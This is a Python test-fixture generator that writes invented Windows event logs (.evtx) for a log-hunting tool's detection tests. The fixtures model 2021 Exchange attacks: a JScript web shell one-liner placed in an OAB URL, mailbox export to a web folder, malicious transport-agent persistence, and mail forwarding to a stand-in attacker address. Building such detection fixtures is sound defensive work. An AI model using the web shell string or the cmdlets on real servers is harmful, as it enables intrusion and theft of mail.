#!/usr/bin/env python3
"""Write small synthetic .evtx files (Windows XML Event Log) for exhunt's e2e tests.

The format is written from the project notes (shared reference "evtx-and-fleet.md",
section A1) and MS-EVEN6; no third-party code or sample file was copied. Every e2e record
uses the inline (template-less) binary XML form that forwarded (WEC) logs use. One fuzz
corpus input, fuzz/corpus/evtx/crash-plan-slot-reuse.evtx, uses templates (see
plan_slot_reuse()). All events are invented.

Usage (paths are repository-relative, so any working directory works):

    python3 tests/gen/make_evtx.py            write tests/e2e/evtx-*/{args,input/} and
                                              fuzz/corpus/evtx/crash-plan-slot-reuse.evtx
    python3 tests/gen/make_evtx.py --check    re-read every written file with the
                                              independent reader below, print each record
                                              and compare it with what was meant
    python3 tests/gen/make_evtx.py --dump F.. print the records of any .evtx files

The generator owns only `args` and `input/` of the cases in CASES, which it deletes and
rewrites, and that one corpus file; it never touches expected.* files. Output is
deterministic (no clock, no unseeded randomness): a second run gives byte-identical files.

write_evtx(path, events) is the reusable entry point; see encode_event() for the event
dict keys.
"""

import base64
import calendar
import hashlib
import shutil
import struct
import sys
import time
import zlib
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
E2E = REPO / "tests" / "e2e"

FILE_HEADER_BLOCK = 4096
CHUNK_SIZE = 65536
CHUNK_HEADER = 512
CHUNK_FILL = 60 * 1024  # start a new chunk once the record data would pass this
EVENT_NS = "http://schemas.microsoft.com/win/2004/08/events/event"

# Marker for a Data value written as 0x02, a zero-length 0x05 value text, 0x04.
# (None is written as the empty element 0x03 and "" as 0x02 0x04 with no text token.)
EMPTY_TEXT = object()


def u8(v):
    return struct.pack("<B", v)


def u16(v):
    return struct.pack("<H", v)


def u32(v):
    return struct.pack("<I", v)


def u64(v):
    return struct.pack("<Q", v)


def utf16(s):
    return s.encode("utf-16-le", "surrogatepass")


def name_hash(s):
    """MS-EVEN6 name hash: h = h*65599 + code unit over the UTF-16 units, low 16 bits."""
    h = 0
    units = utf16(s)
    for i in range(0, len(units), 2):
        h = (h * 65599 + struct.unpack_from("<H", units, i)[0]) & 0xFFFFFFFF
    return h & 0xFFFF


def filetime(iso):
    """'2021-03-03T02:20:00.1234567Z' (any number of fraction digits, or none) -> FILETIME."""
    assert iso.endswith("Z"), iso
    body = iso[:-1]
    frac = ""
    if "." in body:
        body, frac = body.split(".")
    secs = calendar.timegm((int(body[0:4]), int(body[5:7]), int(body[8:10]),
                            int(body[11:13]), int(body[14:16]), int(body[17:19]), 0, 0, 0))
    ticks = int((frac + "0000000")[:7]) if frac else 0
    return (secs + 11644473600) * 10_000_000 + ticks


# --------------------------------------------------------------------------------------
# Binary XML writer (inline form: no templates, no dependency ids)
# --------------------------------------------------------------------------------------

class BinXml:
    """Writes tokens into a buffer whose first byte sits at chunk offset `base`.

    `names` maps a name to the chunk offset of its inline definition; it is shared by all
    records of one chunk, so the second and later uses of a name (in the same record or a
    later one) are back-references to the first definition."""

    def __init__(self, base, names):
        self.b = bytearray()
        self.base = base
        self.names = names

    def pos(self):
        return self.base + len(self.b)

    def name_ref(self, name):
        off = self.names.get(name)
        if off is not None:
            self.b += u32(off)
            return
        off = self.pos() + 4  # the definition follows the offset field itself
        units = utf16(name)
        self.b += u32(off)
        self.b += u32(0) + u16(name_hash(name)) + u16(len(units) // 2) + units + u16(0)
        self.names[name] = off

    def text(self, s):
        units = utf16(s)
        assert len(units) // 2 <= 0xFFFF
        self.b += u8(0x05) + u8(0x01) + u16(len(units) // 2) + units

    def element(self, node):
        """node = (name, [(attr, value)...], children); children None -> empty element
        (0x03); otherwise a list of str / EMPTY_TEXT / nodes between 0x02 and 0x04."""
        name, attrs, children = node
        self.b += u8(0x41 if attrs else 0x01)
        size_at = len(self.b)
        self.b += u32(0)  # data size, patched below
        self.name_ref(name)
        if attrs:
            list_at = len(self.b)
            self.b += u32(0)  # attribute list size, patched below
            for i, (aname, avalue) in enumerate(attrs):
                self.b += u8(0x46 if i + 1 < len(attrs) else 0x06)
                self.name_ref(aname)
                self.text(avalue)
            struct.pack_into("<I", self.b, list_at, len(self.b) - list_at - 4)
        if children is None:
            self.b += u8(0x03)
        else:
            self.b += u8(0x02)
            for c in children:
                if c is EMPTY_TEXT:
                    self.text("")
                elif isinstance(c, str):
                    if c:
                        self.text(c)
                else:
                    self.element(c)
            self.b += u8(0x04)
        # data size: every byte after the size field up to and including 0x03 / 0x04
        struct.pack_into("<I", self.b, size_at, len(self.b) - size_at - 4)


def E(name, *children, attrs=None, empty=False):
    return (name, list(attrs or []), None if empty else list(children))


def event_tree(ev, record_id):
    """The element tree of one event dict.

    Keys: provider, event_id, level, time (ISO, 'Z'), channel, computer, data (list of
    (name or None, value); value str, "" , None or EMPTY_TEXT).  Optional: provider_guid,
    event_source (EventSourceName attribute), qualifiers, version, task, opcode, keywords,
    activity_id (Correlation ActivityID), execution (pid, tid), security (UserID SID, or ""
    for an empty <Security/>), userdata = (wrapper element, xmlns, [(name, value)...])
    instead of EventData, message (adds a RenderingInfo block as WEC RenderedText does)."""
    pattrs = [("Name", ev["provider"])]
    if ev.get("provider_guid"):
        pattrs.append(("Guid", ev["provider_guid"]))
    if ev.get("event_source"):
        pattrs.append(("EventSourceName", ev["event_source"]))
    sysk = [E("Provider", attrs=pattrs, empty=True)]
    eattrs = [("Qualifiers", str(ev["qualifiers"]))] if ev.get("qualifiers") is not None else []
    sysk.append(E("EventID", str(ev["event_id"]), attrs=eattrs))
    if ev.get("version") is not None:
        sysk.append(E("Version", str(ev["version"])))
    sysk.append(E("Level", str(ev["level"])))
    if ev.get("task") is not None:
        sysk.append(E("Task", str(ev["task"])))
    if ev.get("opcode") is not None:
        sysk.append(E("Opcode", str(ev["opcode"])))
    if ev.get("keywords") is not None:
        sysk.append(E("Keywords", ev["keywords"]))
    sysk.append(E("TimeCreated", attrs=[("SystemTime", ev["time"])], empty=True))
    sysk.append(E("EventRecordID", str(record_id)))
    if "activity_id" in ev:
        aid = ev["activity_id"]
        sysk.append(E("Correlation", attrs=[("ActivityID", aid)] if aid else [], empty=True))
    if ev.get("execution"):
        pid, tid = ev["execution"]
        sysk.append(E("Execution", attrs=[("ProcessID", str(pid)), ("ThreadID", str(tid))],
                      empty=True))
    sysk.append(E("Channel", ev["channel"]))
    sysk.append(E("Computer", ev["computer"]))
    if "security" in ev:
        uid = ev["security"]
        sysk.append(E("Security", attrs=[("UserID", uid)] if uid else [], empty=True))
    kids = [E("System", *sysk)]
    if ev.get("userdata"):
        wrapper, xmlns, fields = ev["userdata"]
        inner = [E(n, v) for n, v in fields]
        kids.append(E("UserData", E(wrapper, *inner, attrs=[("xmlns", xmlns)])))
    else:
        datas = []
        for name, value in ev["data"]:
            attrs = [("Name", name)] if name is not None else []
            if value is None:
                datas.append(E("Data", attrs=attrs, empty=True))
            else:
                datas.append(E("Data", value, attrs=attrs))
        kids.append(E("EventData", *datas))
    if ev.get("message"):
        kids.append(E("RenderingInfo",
                      E("Message", ev["message"]),
                      E("Level", {1: "Critical", 2: "Error", 3: "Warning"}.get(ev["level"],
                                                                             "Information")),
                      E("Channel", ev["channel"]),
                      E("Provider", ev["provider"]),
                      attrs=[("Culture", ev.get("culture", "en-US"))]))
    return E("Event", *kids, attrs=[("xmlns", EVENT_NS)])


def encode_event(ev, record_id, base, names):
    w = BinXml(base, names)
    w.b += bytes([0x0F, 0x01, 0x01, 0x00])  # fragment header
    w.element(event_tree(ev, record_id))
    w.b += u8(0x00)  # end of fragment
    return bytes(w.b)


def encode_record(ev, record_id, chunk_off, names):
    xml = encode_event(ev, record_id, chunk_off + 24, names)
    size = 24 + len(xml) + 4
    return (b"\x2a\x2a\x00\x00" + u32(size) + u64(record_id) + u64(filetime(ev["time"]))
            + xml + u32(size))


# --------------------------------------------------------------------------------------
# Chunks and files
# --------------------------------------------------------------------------------------

class Chunk:
    def __init__(self):
        self.names = {}
        self.data = bytearray()  # record bytes from chunk offset 512
        self.records = []  # (offset, record id)
        self.free_override = None

    def offset(self):
        return CHUNK_HEADER + len(self.data)

    def try_add(self, ev, rid, limit=CHUNK_FILL):
        saved = dict(self.names)
        rec = encode_record(ev, rid, self.offset(), self.names)
        if self.records and self.offset() + len(rec) > CHUNK_HEADER + limit:
            self.names = saved
            return False
        assert self.offset() + len(rec) <= CHUNK_SIZE, "one event larger than a chunk"
        self.records.append((self.offset(), rid))
        self.data += rec
        return True

    def add_torn(self, ev, rid):
        """Append a record cut in half, as a copy taken mid-write leaves it: the size field
        is the full size, but the chunk's free-space offset ends at the half, the rest of
        the bytes (and the trailing copy of the size) are zero."""
        rec = encode_record(ev, rid, self.offset(), self.names)
        self.records.append((self.offset(), rid))
        self.data += rec[:len(rec) // 2]

    def build(self):
        free = self.offset()
        first = self.records[0][1] if self.records else 0
        last = self.records[-1][1] if self.records else 0
        last_off = self.records[-1][0] if self.records else 0
        c = bytearray(CHUNK_SIZE)
        c[CHUNK_HEADER:free] = self.data
        c[0:8] = b"ElfChnk\x00"
        struct.pack_into("<QQQQ", c, 8, first, last, first, last)
        struct.pack_into("<IIII", c, 40, 128, last_off, free,
                         zlib.crc32(bytes(c[CHUNK_HEADER:free])))
        struct.pack_into("<I", c, 120, 0)  # flags
        # 128..511: string and template hash tables, left all zero (readers must not
        # depend on them)
        struct.pack_into("<I", c, 124, zlib.crc32(bytes(c[0:120]) + bytes(c[128:512])))
        return bytes(c)


def file_header(nchunks, next_id, last_chunk=None, count=None, flags=0):
    h = bytearray(FILE_HEADER_BLOCK)
    h[0:8] = b"ElfFile\x00"
    struct.pack_into("<QQQ", h, 8, 0, nchunks - 1 if last_chunk is None else last_chunk,
                     next_id)
    struct.pack_into("<IHHHH", h, 32, 128, 1, 3, FILE_HEADER_BLOCK,
                     nchunks if count is None else count)
    struct.pack_into("<I", h, 120, flags)
    struct.pack_into("<I", h, 124, zlib.crc32(bytes(h[0:120])))
    return bytes(h)


def pack_chunks(events, first_id=1):
    """Lay events out in as many chunks as needed; returns ([Chunk], [(rid, ev)])."""
    chunks = [Chunk()]
    placed = []
    rid = first_id
    for ev in events:
        if not chunks[-1].try_add(ev, rid):
            chunks.append(Chunk())
            assert chunks[-1].try_add(ev, rid)
        placed.append((rid, ev))
        rid += 1
    return chunks, placed


def evtx_bytes(events, first_id=1):
    chunks, placed = pack_chunks(events, first_id)
    body = b"".join(c.build() for c in chunks)
    return file_header(len(chunks), first_id + len(events)) + body, placed


def write_evtx(path, events, first_id=1):
    """Write `events` (list of event dicts, see event_tree) as a valid .evtx file with
    record ids from first_id; one chunk per ~60 KB of records. Returns [(rid, event)]."""
    data, placed = evtx_bytes(events, first_id)
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_bytes(data)
    return placed


# --------------------------------------------------------------------------------------
# Event builders
# --------------------------------------------------------------------------------------

HOST = "EXCH01.corp.example.com"
LOGS = "Windows/System32/winevt/Logs"
V15 = r"C:\Program Files\Microsoft\Exchange Server\V15"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"
ADMIN_SID = DOMAIN_SID + "-500"
AD_SETTINGS = ("View Entire Forest: 'False', Default Scope: 'corp.example.com', "
               "Configuration Domain Controller: 'DC01.corp.example.com', Preferred Global "
               "Catalog: 'DC01.corp.example.com', Preferred Domain Controllers: "
               "'{ DC01.corp.example.com }'")
W3WP = r"c:\windows\system32\inetsrv\w3wp.exe"


def guid(key):
    h = hashlib.sha256(key.encode()).hexdigest()
    return "%s-%s-%s-%s-%s" % (h[0:8], h[8:12], h[12:16], h[16:20], h[20:32])


def hexhash(key, n):
    return hashlib.sha256(key.encode()).hexdigest()[:n].upper()


def cmdlet_event(time, cmdlet, params, event_id=1, error="", caller=None, app=None,
                 proc="6748 w3wp#MSExchangePowerShellAppPool", duration="00:00:00.1406250",
                 computer=HOST, culture="en-US", message=None):
    """MSExchange CmdletLogs in channel MSExchange Management: 1 = succeeded (Level 4,
    Qualifiers 16384), 6 = failed (Level 2, Qualifiers 49152). 27 positional Data strings
    after the layout in the notes ([0] cmdlet, [1] parameters, [2] caller, [3]/[4] SIDs,
    [5] client application, [6] 'PID process#AppPool', [9] duration, [10] AD settings,
    [11] exception for event 6, [12] activity id, [13] service plan, [14] culture); empty
    positions are written in all three empty shapes."""
    caller = caller or "corp.example.com/Users/Administrator"
    app = app or "Remote-ManagementShell-Unknown"
    key = time + cmdlet + params
    data = [cmdlet, params, caller, ADMIN_SID, ADMIN_SID, app, proc, None, None, duration,
            AD_SETTINGS, error if error else EMPTY_TEXT, guid("act" + key),
            "ServicePlan:;ValidationRuleSkipped:;IsAdmin:True;", culture]
    data += ["", None, "", "", None, "", "", "", None, "", "", ""]
    assert len(data) == 27
    failed = event_id != 1
    ev = dict(provider="MSExchange CmdletLogs", event_id=event_id,
              qualifiers=49152 if failed else 16384, level=2 if failed else 4, task=1,
              keywords="0x80000000000000", time=time, channel="MSExchange Management",
              computer=computer, security="", data=[(None, v) for v in data])
    if message:
        ev["message"] = message
        ev["culture"] = culture
    return ev


def classic_event(time, provider, event_id, level, data, channel="Application", task=0,
                  qualifiers=None):
    return dict(provider=provider, event_id=event_id,
                qualifiers=qualifiers if qualifiers is not None else
                (49152 if level == 2 else 32768 if level == 3 else 16384),
                level=level, task=task, keywords="0x80000000000000", time=time,
                channel=channel, computer=HOST, security="",
                data=[(None, v) for v in data])


SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
SECURITY_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
EVENTLOG_GUID = "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"
DEFENDER_GUID = "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"


def sysmon_event(time, event_id, fields, version):
    return dict(provider="Microsoft-Windows-Sysmon", provider_guid=SYSMON_GUID,
                event_id=event_id, version=version, level=4, task=event_id, opcode=0,
                keywords="0x8000000000000000", time=time, activity_id="",
                execution=(3260, 4412), channel="Microsoft-Windows-Sysmon/Operational",
                computer=HOST, security="S-1-5-18", data=fields)


def utc(time):
    """Sysmon's UtcTime text: '2021-03-03 02:31:07.482'."""
    return time[:10] + " " + time[11:23]


def pguid(key):
    return "{%s}" % guid("proc" + key)


def sysmon_proc(time, image, cmdline, parent, parent_cmd, pid, ppid, cwd,
                user="NT AUTHORITY\\SYSTEM", meta=("-", "-", "-", "-", "-")):
    fv, desc, prod, comp, orig = meta
    return sysmon_event(time, 1, [
        ("RuleName", "-"), ("UtcTime", utc(time)), ("ProcessGuid", pguid(image + time)),
        ("ProcessId", str(pid)), ("Image", image), ("FileVersion", fv), ("Description", desc),
        ("Product", prod), ("Company", comp), ("OriginalFileName", orig),
        ("CommandLine", cmdline), ("CurrentDirectory", cwd), ("User", user),
        ("LogonGuid", "{%s}" % guid("logon-system")), ("LogonId", "0x3e7"),
        ("TerminalSessionId", "0"), ("IntegrityLevel", "System"),
        ("Hashes", "SHA256=%s" % hexhash(image, 64)),
        ("ParentProcessGuid", pguid(parent + "parent")), ("ParentProcessId", str(ppid)),
        ("ParentImage", parent), ("ParentCommandLine", parent_cmd),
        ("ParentUser", "NT AUTHORITY\\SYSTEM")], version=5)


def sysmon_file(time, image, pid, target):
    return sysmon_event(time, 11, [
        ("RuleName", "-"), ("UtcTime", utc(time)), ("ProcessGuid", pguid(image + "parent")),
        ("ProcessId", str(pid)), ("Image", image), ("TargetFilename", target),
        ("CreationUtcTime", utc(time)), ("User", "NT AUTHORITY\\SYSTEM")], version=2)


def owa_pool_cmd(pool):
    return (W3WP + ' -ap "%s" -v "v4.0" -c "%s\\bin\\GenericAppPoolConfigWithGCServerEnabled'
            'False.config" -a \\\\.\\pipe\\iisipm%s -h "C:\\inetpub\\temp\\apppools\\%s\\%s.config"'
            ' -w "" -m 0' % (pool, V15, guid(pool)[:8], pool, pool))


def security_event(time, event_id, fields, task, level=0, keywords="0x8020000000000000",
                   pid=712, tid=3388):
    return dict(provider="Microsoft-Windows-Security-Auditing", provider_guid=SECURITY_GUID,
                event_id=event_id, version=0, level=level, task=task, opcode=0,
                keywords=keywords, time=time, activity_id="{%s}" % guid("corr-sec"),
                execution=(pid, tid), channel="Security", computer=HOST, data=fields)


def group_add(time, event_id, member, member_rid, group, group_rid, subject="Administrator"):
    return security_event(time, event_id, [
        ("MemberName", "CN=%s,CN=Users,DC=corp,DC=example,DC=com" % member),
        ("MemberSid", "%s-%d" % (DOMAIN_SID, member_rid)),
        ("TargetUserName", group), ("TargetDomainName", "CORP"),
        ("TargetSid", "%s-%d" % (DOMAIN_SID, group_rid)),
        ("SubjectUserSid", ADMIN_SID if subject == "Administrator" else DOMAIN_SID + "-1104"),
        ("SubjectUserName", subject), ("SubjectDomainName", "CORP"),
        ("SubjectLogonId", "0x%x" % (0x2A1C4F + member_rid)), ("PrivilegeList", "-")],
        task=13826)


def logon_4624(time, user, ip, logon_type="3"):
    return security_event(time, 4624, [
        ("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"),
        ("SubjectLogonId", "0x0"), ("TargetUserSid", "%s-%d" % (DOMAIN_SID, 1100 + len(user))),
        ("TargetUserName", user), ("TargetDomainName", "CORP"),
        ("TargetLogonId", "0x%x" % (0x5A000 + len(user) * 17)), ("LogonType", logon_type),
        ("LogonProcessName", "Kerberos"), ("AuthenticationPackageName", "Kerberos"),
        ("WorkstationName", "-"), ("LogonGuid", "{%s}" % guid("lg" + user + time)),
        ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", "0"),
        ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", "0"),
        ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"),
        ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
        ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", "0x0"),
        ("ElevatedToken", "%%1842")], task=12544)


def defender_event(time, event_id, fields, level=4):
    return dict(provider="Microsoft-Windows-Windows Defender", provider_guid=DEFENDER_GUID,
                event_id=event_id, version=0, level=level, task=0, opcode=0,
                keywords="0x8000000000000000", time=time, activity_id="",
                execution=(3016, 5124),
                channel="Microsoft-Windows-Windows Defender/Operational", computer=HOST,
                security="S-1-5-18", data=fields)


DEFENDER_PRODUCT = [("Product Name", "Microsoft Defender Antivirus"),
                    ("Product Version", "4.18.2102.4")]
DEFENDER_VERSIONS = [("Security intelligence Version", "AV: 1.333.235.0, AS: 1.333.235.0, "
                      "NIS: 1.333.235.0"), ("Engine Version", "AM: 1.1.17900.7, NIS: 1.1.17900.7")]


def defender_detection(time, event_id, threat, tid, path, action):
    fields = DEFENDER_PRODUCT + [
        ("Detection ID", "{%s}" % guid("det" + threat + path).upper()),
        ("Detection Time", time[:23] + "Z"), ("Unused", ""), ("Unused2", ""),
        ("Threat ID", str(tid)), ("Threat Name", threat), ("Severity ID", "5"),
        ("Severity Name", "Severe"), ("Category ID", "34"), ("Category Name", "Exploit"),
        ("FWLink", "https://go.microsoft.com/fwlink/?linkid=37020&name=%s&threatid=%d&enterprise=0"
         % (threat, tid)),
        ("Status Code", "1" if event_id == 1116 else "3"),
        ("Status Description", ""), ("State", "1" if event_id == 1116 else "2"),
        ("Source ID", "3"), ("Source Name", "Real-Time Protection"),
        ("Process Name", "C:\\Windows\\System32\\inetsrv\\w3wp.exe"),
        ("Detection User", "NT AUTHORITY\\SYSTEM"), ("Unused3", ""), ("Path", path),
        ("Origin ID", "1"), ("Origin Name", "Local machine"), ("Execution ID", "0"),
        ("Execution Name", "Unknown"), ("Type ID", "0"), ("Type Name", "Concrete"),
        ("Pre Execution Status", "0"), ("Action ID", "9" if event_id == 1116 else "2"),
        ("Action Name", action), ("Unused4", ""), ("Error Code", "0x00000000"),
        ("Error Description", "The operation completed successfully. "), ("Unused5", ""),
        ("Post Clean Status", "0"), ("Additional Actions ID", "0"),
        ("Additional Actions String", "No additional actions required"),
        ("Remediation User", "" if event_id == 1116 else "NT AUTHORITY\\SYSTEM"),
        ("Unused6", "")] + DEFENDER_VERSIONS
    return defender_event(time, event_id, fields, level=3)


def defender_scan(time, event_id, scan_type="Quick Scan", minutes="3"):
    fields = DEFENDER_PRODUCT + [
        ("Scan ID", "{%s}" % guid("scan" + time).upper()), ("Scan Type Index", "1"),
        ("Scan Type", "Antimalware"), ("Scan Parameters Index", "1"),
        ("Scan Parameters", scan_type), ("Domain", "NT AUTHORITY"), ("User", "SYSTEM"),
        ("SID", "S-1-5-18")]
    if event_id == 1001:
        fields += [("Scan Time Hours", "0"), ("Scan Time Minutes", minutes),
                   ("Scan Time Seconds", "41")]
    return defender_event(time, event_id, fields)


# --------------------------------------------------------------------------------------
# The cases
# --------------------------------------------------------------------------------------

APP = LOGS + "/Application.evtx"
MGMT = LOGS + "/MSExchange Management.evtx"
SEC = LOGS + "/Security.evtx"
SYSMON = LOGS + "/Microsoft-Windows-Sysmon%4Operational.evtx"
DEFENDER = LOGS + "/Microsoft-Windows-Windows Defender%4Operational.evtx"
FWD = LOGS + "/ForwardedEvents.evtx"

OAB_SCRIPT = ('-ExternalUrl "http://f/<script language=\\"JScript\\" runat=\\"server\\">'
              'function Page_Load(){eval(Request[\\"k\\"],\\"unsafe\\");}</script>" '
              '-Identity "OAB (Default Web Site)"')
OAB_BENIGN = '-ExternalUrl "https://mail.example.com/OAB" -Identity "OAB (Default Web Site)"'
ECP_APP = "ExchangeControlPanel"
ECP_PROC = "7352 w3wp#MSExchangeECPAppPool"


def benign_mgmt(day, n=2):
    """A few everyday cmdlets, from 00:00 on `day`, before the hits (ids follow time)."""
    base = [("Get-Mailbox", '-ResultSize "Unlimited"'),
            ("Get-ExchangeServer", '-Identity "EXCH01"'),
            ("Get-MailboxDatabase", '-Status "True"'),
            ("Set-CASMailbox", '-Identity "bob" -ActiveSyncEnabled "False"')]
    return [cmdlet_event("%sT%02d:%02d:11.%07dZ" % (day, i, 5 * i, 1234567 + i * 1111),
                         c, p) for i, (c, p) in enumerate(base[:n])]


def um_error(time, text, level=2, provider="MSExchange Unified Messaging", event_id=100):
    return classic_event(time, provider, event_id, level,
                         ["UM worker process", "EXCH01", text], task=1)


INVALID_CAST = ("System.InvalidCastException: Unable to cast object of type 'System.Object' "
                "to type 'Microsoft.Exchange.UM.UMCommon.UMMessageContext'.\r\n"
                "   at Microsoft.Exchange.UM.UMCore.PipelineDispatcher.ProcessMessage("
                "PipelineContext context)\r\n"
                "   at Microsoft.Exchange.UM.UMCore.PipelineWorkItem.Run()")


def viewstate():
    raw = b"".join(hashlib.sha256(b"viewstate-%d" % i).digest() for i in range(8))
    return "/wEy" + base64.b64encode(raw).decode()


def ecp_error(time, url, exc):
    return classic_event(time, "MSExchange Control Panel", 4, 2,
                         ["Request for URL '%s' failed with the following error:" % url, exc],
                         task=3)


def case_files():
    """{case: {relative path under input/: spec}} where spec is a list of events (written
    with write_evtx) or ('raw', bytes, [(rid, ev) readable], [problems])."""
    c = {}
    d0303 = "2021-03-03"
    pre = [classic_event("2021-03-03T01:58:02.5512340Z", "MSExchange ADAccess", 2080, 4,
                         ["w3wp.exe", "6748", "DC01.corp.example.com\tCDG 1 7 7 1 0 1 1 7 1"])]

    # CVE-2021-26857: UM error with InvalidCastException
    c["evtx-um-26857"] = {APP: pre + [
        classic_event("2021-03-03T02:09:44.0012340Z", "MSExchange Unified Messaging", 1001, 4,
                      ["The Microsoft Exchange Unified Messaging service started."], task=1),
        um_error("2021-03-03T02:20:00.4410000Z", INVALID_CAST),
        classic_event("2021-03-03T02:20:01.0020000Z", "MSExchange Common", 4999, 2,
                      ["Watson report about to be sent for process id: 4528, with parameters: "
                       "E12IIS, c-RTL-AMD64, 15.01.2106.002, UMWorkerProcess, M.Exchange.UM."
                       "UMCore, ...", "ErrorReportingEnabled: False"], task=1),
    ]}
    c["evtx-um-26857-near"] = {APP: pre + [
        classic_event("2021-03-03T02:09:44.0012340Z", "MSExchange Unified Messaging", 1001, 4,
                      ["The Microsoft Exchange Unified Messaging service started."], task=1),
        # information level, even though the text names the exception
        um_error("2021-03-03T02:20:00.4410000Z",
                 "Call handled after a System.InvalidCastException was retried.", level=4),
        # error level, no InvalidCastException
        um_error("2021-03-03T02:24:13.9000000Z",
                 "System.TimeoutException: The operation has timed out.\r\n"
                 "   at Microsoft.Exchange.UM.UMCore.CallContext.WaitForMediaConnection()"),
        # InvalidCastException at error level, but another provider
        um_error("2021-03-03T02:30:30.0000000Z", INVALID_CAST.replace("UM.UMCommon", "Clients"),
                 provider="MSExchange OWA", event_id=108),
    ]}

    # CVE-2021-27065: Set-OabVirtualDirectory with a script in ExternalUrl
    c["evtx-oab-script"] = {MGMT: benign_mgmt(d0303) + [
        cmdlet_event("2021-03-03T02:13:58.8312090Z", "Set-OabVirtualDirectory", OAB_SCRIPT,
                     app=ECP_APP, proc=ECP_PROC, duration="00:00:00.2343750"),
        cmdlet_event("2021-03-03T02:14:07.1250000Z", "Get-OabVirtualDirectory",
                     '-Identity "OAB (Default Web Site)"', app=ECP_APP, proc=ECP_PROC),
    ]}
    c["evtx-oab-script-near"] = {MGMT: benign_mgmt(d0303) + [
        cmdlet_event("2021-03-03T10:13:58.8312090Z", "Set-OabVirtualDirectory", OAB_BENIGN,
                     app=ECP_APP, proc=ECP_PROC),
    ]}

    # ProxyShell (CVE-2021-31207): PST export to a web folder
    d0813 = "2021-08-13"
    c["evtx-mailbox-export"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-13T17:40:02.3906250Z", "New-ManagementRoleAssignment",
                     '-Role "Mailbox Import Export" -User "admin"'),
        cmdlet_event("2021-08-13T17:40:09.7968750Z", "New-MailboxExportRequest",
                     '-Mailbox admin@corp.example.com -FilePath '
                     '"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"',
                     duration="00:00:01.0468750"),
        cmdlet_event("2021-08-13T17:41:30.0156250Z", "Remove-MailboxExportRequest",
                     '-Identity "x" -Confirm "False"'),
    ]}
    c["evtx-mailbox-export-near"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-13T11:02:40.5000000Z", "New-MailboxExportRequest",
                     '-Mailbox alice -FilePath "\\\\fileserver\\pst$\\alice.pst"',
                     caller="corp.example.com/Users/Zoë Müller"),
        cmdlet_event("2021-08-13T11:55:01.2500000Z", "Get-MailboxExportRequest",
                     '-Mailbox "alice"', caller="corp.example.com/Users/Zoë Müller"),
        # the clean-up an administrator does, asked to confirm (no -Confirm:$false)
        cmdlet_event("2021-08-13T12:10:44.0000000Z", "Remove-MailboxExportRequest",
                     '-Identity "alice\\MailboxExport"',
                     caller="corp.example.com/Users/Zoë Müller"),
    ]}

    # ProxyShell: certificate request written as .aspx
    c["evtx-cert-request"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-13T17:45:12.6406250Z", "New-ExchangeCertificate",
                     '-GenerateRequest -BinaryEncoded -RequestFile '
                     '"C:\\inetpub\\wwwroot\\aspnet_client\\cert.aspx" -SubjectName "CN=x"'),
    ]}
    c["evtx-cert-request-near"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-13T09:15:12.6406250Z", "New-ExchangeCertificate",
                     '-GenerateRequest -BinaryEncoded -RequestFile "C:\\certs\\mail.req" '
                     '-SubjectName "CN=mail.example.com" -DomainName "mail.example.com"'),
    ]}

    # persistence: transport agent
    c["evtx-transport-agent"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T03:12:44.2031250Z", "Install-TransportAgent",
                     '-Name "MailFilter" -TransportAgentFactory '
                     '"Microsoft.Exchange.Transport.Agent.MailFilter.MailFilterFactory" '
                     '-AssemblyPath "C:\\ProgramData\\x.dll"',
                     proc="5120 powershell", app="Local-ManagementShell"),
        cmdlet_event("2021-08-14T03:13:01.9843750Z", "Enable-TransportAgent",
                     '-Identity "MailFilter"', proc="5120 powershell",
                     app="Local-ManagementShell"),
    ]}
    c["evtx-transport-agent-near"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T09:12:44.2031250Z", "Get-TransportAgent", "",
                     proc="5120 powershell", app="Local-ManagementShell"),
        cmdlet_event("2021-08-14T09:13:01.9843750Z", "Enable-TransportAgent",
                     '-Identity "Transport Rule Agent"', proc="5120 powershell",
                     app="Local-ManagementShell"),
    ]}

    # collection: forwarding
    c["evtx-forwarding"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T04:01:10.5000000Z", "Set-Mailbox",
                     '-Identity ceo -ForwardingSmtpAddress "smtp:drop@evil.example" '
                     '-DeliverToMailboxAndForward $true'),
        cmdlet_event("2021-08-14T04:03:55.0625000Z", "New-InboxRule",
                     '-Name x -ForwardTo ext@evil.example -Mailbox "ceo"'),
    ]}
    c["evtx-forwarding-near"] = {MGMT: benign_mgmt(d0813) + [
        cmdlet_event("2021-08-14T10:01:10.5000000Z", "Set-Mailbox",
                     '-Identity alice -ProhibitSendQuota 5GB'),
        # non-BMP character in a value: the u16 count is in UTF-16 units (a pair here)
        cmdlet_event("2021-08-14T10:05:10.5000000Z", "New-InboxRule",
                     '-Name "Receipts \U0001F9FE" -From "billing@example.com" '
                     '-MoveToFolder "alice:\\Receipts" -Mailbox "alice"'),
    ]}

    # CVE-2021-42321: Get-App failing with InvalidCastException (rendered message included,
    # as WEC RenderedText does; note its second <Level> holds text)
    getapp_params = '-Mailbox "admin@corp.example.com" -Identity "%s"' % guid("app")
    getapp_exc = ("System.InvalidCastException: Unable to cast object of type 'System.Object' "
                  "to type 'Microsoft.Exchange.Data.ApplicationLogic.Extension.ExtensionData'.")
    c["evtx-get-app-42321"] = {MGMT: benign_mgmt("2021-11-10") + [
